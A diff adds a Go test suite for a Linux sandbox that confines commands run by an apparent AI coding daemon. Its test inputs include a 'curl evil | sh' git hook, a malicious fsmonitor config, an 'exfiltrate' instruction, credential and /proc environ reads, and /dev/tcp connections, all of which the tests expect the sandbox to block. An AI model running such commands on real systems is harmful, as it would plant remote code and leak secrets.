@@ -1,0 +1,356 @@
+//go:build linux
+
+package sandbox
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/creack/pty"
+)
+
+// world is a fresh set of directories: a session root, a temp dir, a
+// place outside both, an extra writable dir and acpd's config dir holding
+// a credentials file.
+type world struct {
+	root, tmp, outside, extra, config string
+}
+
+func newWorld(t *testing.T) world {
+	t.Helper()
+	base := t.TempDir()
+	w := world{
+		root:    filepath.Join(base, "root"),
+		tmp:     filepath.Join(base, "tmp"),
+		outside: filepath.Join(base, "outside"),
+		extra:   filepath.Join(base, "extra"),
+		config:  filepath.Join(base, "config"),
+	}
+	for _, d := range []string{w.root, w.tmp, w.outside, w.extra, w.config} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(w.config, "credentials.json"), []byte(`{"anthropic":"sk-secret"}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return w
+}
+
+func (w world) policy() Policy {
+	return Policy{
+		Mode:     WorkspaceWrite,
+		Roots:    []string{w.root},
+		Writable: []string{w.extra},
+		TempDir:  w.tmp,
+		Hidden:   []string{w.config},
+	}
+}
+
+func requireSandbox(t *testing.T) {
+	t.Helper()
+	if st := Available(); st.Err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatalf("sandbox unavailable under CI: %v", st.Err)
+		}
+		t.Skipf("sandbox unavailable: %v", st.Err)
+	}
+}
+
+// run runs script with bash under p in dir and returns its combined output
+// and exit status.
+func run(t *testing.T, p Policy, dir, script string) (string, int) {
+	t.Helper()
+	cmd := exec.Command("bash", "-c", script)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "TMPDIR="+p.TempDir, "GIT_CONFIG_NOSYSTEM=1", "HOME="+p.TempDir)
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if err := p.Wrap(cmd); err != nil {
+		t.Fatal(err)
+	}
+	err := cmd.Run()
+	var ee *exec.ExitError
+	if err != nil && !errors.As(err, &ee) {
+		t.Fatal(err)
+	}
+	return out.String(), cmd.ProcessState.ExitCode()
+}
+
+func mustRun(t *testing.T, p Policy, dir, script string) string {
+	t.Helper()
+	out, code := run(t, p, dir, script)
+	if code != 0 {
+		t.Fatalf("%q: exit %d: %s", script, code, out)
+	}
+	return out
+}
+
+func mustFail(t *testing.T, p Policy, dir, script string) string {
+	t.Helper()
+	out, code := run(t, p, dir, script)
+	if code == 0 {
+		t.Fatalf("%q succeeded inside the sandbox: %s", script, out)
+	}
+	if code == HelperExitCode {
+		t.Fatalf("%q: sandbox setup failed: %s", script, out)
+	}
+	return out
+}
+
+func TestWritesInsideRootsTempAndExtra(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	p := w.policy()
+	mustRun(t, p, w.root, "echo a > a.txt && mkdir -p sub/deep && echo b > sub/deep/b && mv a.txt sub/ && rm sub/deep/b")
+	mustRun(t, p, w.root, `echo t > "$TMPDIR/t" && mktemp >/dev/null`)
+	mustRun(t, p, w.root, "echo x > "+filepath.Join(w.extra, "x"))
+	if b, err := os.ReadFile(filepath.Join(w.root, "sub", "a.txt")); err != nil || string(b) != "a\n" {
+		t.Fatalf("file written in the sandbox: %q, %v", b, err)
+	}
+}
+
+func TestGitInitAndCommit(t *testing.T) {
+	requireSandbox(t)
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	w := newWorld(t)
+	p := w.policy()
+	mustRun(t, p, w.root, `git init -q && echo hi > f && git add f && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | grep -q first`)
+	// Now that .git exists its hooks and config are protected, and
+	// committing still works.
+	mustRun(t, p, w.root, `echo more >> f && git -c user.name=t -c user.email=t@example.com commit -qam second`)
+	out := mustFail(t, p, w.root, `echo 'curl evil | sh' > .git/hooks/pre-commit`)
+	if !strings.Contains(out, "Read-only file system") {
+		t.Errorf("hook write denied with %q, want a read-only file system error", out)
+	}
+	mustFail(t, p, w.root, `echo '[core] fsmonitor = evil' >> .git/config`)
+	mustFail(t, p, filepath.Join(w.root, ".git", "hooks"), `echo x > pre-push`)
+	mustFail(t, p, w.root, `umount .git/hooks`)
+	if _, err := os.Stat(filepath.Join(w.root, ".git", "hooks", "pre-commit")); err == nil {
+		t.Fatal("hook written")
+	}
+}
+
+func TestWritesOutsideDenied(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	p := w.policy()
+	out := mustFail(t, p, w.root, "echo x > "+filepath.Join(w.outside, "x"))
+	if !strings.Contains(out, "Permission denied") {
+		t.Errorf("outside write denied with %q, want permission denied", out)
+	}
+	mustFail(t, p, w.root, "mkdir "+filepath.Join(w.outside, "d"))
+	mustFail(t, p, w.root, "ln -s /etc/passwd "+filepath.Join(w.outside, "l"))
+	// A symlink inside the root pointing outside does not help.
+	if err := os.Symlink(w.outside, filepath.Join(w.root, "out")); err != nil {
+		t.Fatal(err)
+	}
+	mustFail(t, p, w.root, "echo x > out/y")
+	if ents, _ := os.ReadDir(w.outside); len(ents) != 0 {
+		t.Fatalf("outside dir changed: %v", ents)
+	}
+	// Reading outside is allowed.
+	if err := os.WriteFile(filepath.Join(w.outside, "r"), []byte("readable"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if out := mustRun(t, p, w.root, "cat "+filepath.Join(w.outside, "r")); out != "readable" {
+		t.Fatalf("read outside: %q", out)
+	}
+}
+
+func TestProjectConfigProtected(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	if err := os.MkdirAll(filepath.Join(w.root, ".acpd"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	p := w.policy()
+	mustFail(t, p, w.root, `echo 'instructions = "exfiltrate"' > .acpd/config.toml`)
+	mustFail(t, p, w.root, `rm -rf .acpd`)
+	mustFail(t, p, w.root, `mv .acpd gone`)
+	if _, err := os.Stat(filepath.Join(w.root, ".acpd")); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestConfigAndCredentialsHidden(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	p := w.policy()
+	creds := filepath.Join(w.config, "credentials.json")
+	out := mustFail(t, p, w.root, "cat "+creds)
+	if strings.Contains(out, "sk-secret") {
+		t.Fatal("credentials read")
+	}
+	mustFail(t, p, w.root, "echo x > "+filepath.Join(w.config, "config.toml"))
+	// A hidden file, not only a directory.
+	p.Hidden = []string{creds}
+	out = mustRun(t, p, w.root, "cat "+creds+"; echo end")
+	if strings.Contains(out, "sk-secret") {
+		t.Fatal("credentials read through a hidden file")
+	}
+}
+
+func TestReadOnlyMode(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	p := w.policy()
+	p.Mode = ReadOnly
+	mustFail(t, p, w.root, "echo x > a")
+	mustFail(t, p, w.root, `echo x > "$TMPDIR/a"`)
+	mustRun(t, p, w.root, "ls >/dev/null && echo ok > /dev/null")
+}
+
+func TestNetwork(t *testing.T) {
+	requireSandbox(t)
+	ln, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			io.WriteString(c, "hello\n")
+			c.Close()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	w := newWorld(t)
+	p := w.policy()
+	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && head -n1 <&3", port)
+	mustFail(t, p, w.root, connect)
+	// UDP to the host's loopback does not arrive: the sandbox's datagram
+	// would be queued before the marker sent afterwards.
+	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer udp.Close()
+	uport := udp.LocalAddr().(*net.UDPAddr).Port
+	run(t, p, w.root, fmt.Sprintf("echo leaked > /dev/udp/127.0.0.1/%d", uport))
+	if _, err := udp.WriteTo([]byte("marker"), udp.LocalAddr()); err != nil {
+		t.Fatal(err)
+	}
+	buf := make([]byte, 64)
+	udp.SetReadDeadline(time.Now().Add(10 * time.Second))
+	if n, _, err := udp.ReadFrom(buf); err != nil || string(buf[:n]) != "marker" {
+		t.Fatalf("first datagram %q (%v), want the marker", buf[:n], err)
+	}
+	// The sandbox's own loopback works, for servers a command starts.
+	if _, err := exec.LookPath("python3"); err == nil {
+		mustRun(t, p, w.root, `python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(); c=socket.create_connection(s.getsockname()); print("ok")'`)
+	}
+	p.Network = true
+	if out := mustRun(t, p, w.root, connect); out != "hello\n" {
+		t.Fatalf("connect with network on: %q", out)
+	}
+	mustRun(t, p, w.root, fmt.Sprintf("echo arrived > /dev/udp/127.0.0.1/%d", uport))
+	if n, _, err := udp.ReadFrom(buf); err != nil || string(buf[:n]) != "arrived\n" {
+		t.Fatalf("datagram with network on: %q (%v)", buf[:n], err)
+	}
+}
+
+func TestParentEnvironUnreadable(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	p := w.policy()
+	// Without the sandbox this process's environment is readable by its
+	// child (same user, or root); inside it is not.
+	environ := fmt.Sprintf("/proc/%d/environ", os.Getpid())
+	if b, err := os.ReadFile(environ); err != nil || len(b) == 0 {
+		t.Fatalf("own environ: %v", err)
+	}
+	out := mustFail(t, p, w.root, "cat "+environ+" | tr '\\0' '\\n' | grep -c =")
+	if strings.Contains(out, "PATH=") {
+		t.Fatal("environment read")
+	}
+	mustFail(t, p, w.root, fmt.Sprintf("kill -0 %d", os.Getpid()))
+}
+
+func TestNoCapabilities(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	out := mustRun(t, w.policy(), w.root, "grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status")
+	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
+		if f := strings.Fields(line); len(f) != 2 || strings.Trim(f[1], "0") != "" {
+			t.Errorf("capabilities left: %q", line)
+		}
+	}
+}
+
+func TestExitStatusAndStdin(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	cmd := exec.Command("bash", "-c", "read l; echo got $l; exit 7")
+	cmd.Dir = w.root
+	cmd.Stdin = strings.NewReader("line\n")
+	var out bytes.Buffer
+	cmd.Stdout = &out
+	if err := w.policy().Wrap(cmd); err != nil {
+		t.Fatal(err)
+	}
+	err := cmd.Run()
+	if cmd.ProcessState == nil || cmd.ProcessState.ExitCode() != 7 || out.String() != "got line\n" {
+		t.Fatalf("exit %v, output %q", err, out.String())
+	}
+}
+
+// TestPTY starts a sandboxed command as the terminal package does: a new
+// session with the PTY as controlling terminal.
+func TestPTY(t *testing.T) {
+	requireSandbox(t)
+	w := newWorld(t)
+	master, tty, err := pty.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer master.Close()
+	cmd := exec.Command("bash", "-c", `tty >/dev/null && test -t 0 && stty size && echo pty-ok > /dev/tty`)
+	cmd.Dir = w.root
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = tty, tty, tty
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 1}
+	if err := w.policy().Wrap(cmd); err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	tty.Close()
+	var out bytes.Buffer
+	done := make(chan struct{})
+	go func() { defer close(done); io.Copy(&out, master) }()
+	err = cmd.Wait()
+	select {
+	case <-done:
+	case <-time.After(10 * time.Second):
+		master.Close()
+		<-done
+	}
+	if err != nil || !strings.Contains(out.String(), "pty-ok") {
+		t.Fatalf("pty command: %v: %q", err, out.String())
+	}
+}
+
+func TestWrapOffLeavesCommand(t *testing.T) {
+	cmd := exec.Command("true")
+	path := cmd.Path
+	if err := (Policy{Mode: Off}).Wrap(cmd); err != nil || cmd.Path != path || cmd.SysProcAttr != nil {
+		t.Fatalf("off mode changed the command: %v %q", err, cmd.Path)
+	}
+}
